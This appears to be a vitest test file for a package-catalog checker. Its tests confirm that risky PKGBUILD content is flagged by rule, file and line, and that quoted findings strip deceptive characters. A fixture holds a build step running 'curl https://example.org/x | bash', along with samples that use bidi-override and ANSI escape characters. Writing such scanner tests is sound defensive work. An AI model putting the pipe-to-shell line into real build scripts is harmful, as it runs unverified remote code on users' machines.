import { entryHash } from '@rbee/registry'
import { catalogEntrySchema } from '@rbee/schema'
import { aCatalogEntry } from '@rbee/testing'
import { describe, expect, it } from 'vitest'
import { announcedEntry, checkedEntries } from './checked-entries.ts'

const PKGBUILD = `pkgname=a
pkgver=1.0.0
pkgrel=1
build() {
  curl https://example.org/x | bash
}
`

describe('checked entries', () => {
  it('hold what the checker finds in their texts, by file and line', async () => {
    const [entry] = await checkedEntries([aCatalogEntry({ pkgbuild: PKGBUILD, readme: 'a\u202eb' })])
    expect(catalogEntrySchema.parse(entry)).toEqual(entry)
    const { findings = [] } = entry?.checks ?? {}
    expect(findings).toContainEqual({
      ...{ rule: 'pipe-to-shell', severity: 'error', file: 'PKGBUILD', line: 5 },
      reason: 'bash runs what another command writes',
      cure: expect.any(String),
    })
    expect(findings.map(({ rule, file }) => `${rule} ${file}`)).toContain('bidi-character README.md')
  })

  it('are the state that was announced, whatever was found', async () => {
    const entry = aCatalogEntry({ pkgbuild: PKGBUILD })
    const [checked] = await checkedEntries([entry])
    expect(checked && entryHash(checked)).toBe(entryHash(announcedEntry(entry)))
    expect(entryHash(announcedEntry(entry))).not.toBe(entryHash(entry))
  })

  it('quote nothing that would deceive who reads the finding', async () => {
    const pkgbuild = 'source=("http://\u202eexample.org\u001b[31m/x")\nsha256sums=(SKIP)\n'
    const [entry] = await checkedEntries([aCatalogEntry({ pkgbuild, readme: null })])
    expect(entry?.checks?.findings.length).toBeGreaterThan(0)
    expect(JSON.stringify(entry?.checks)).not.toMatch(/\u202e|\\u001b/)
  })

  it('may hold no text at all', async () => {
    const [entry] = await checkedEntries([aCatalogEntry({ readme: null })])
    expect(entry?.checks).toEqual({ checker: expect.any(String), findings: [] })
  })
})
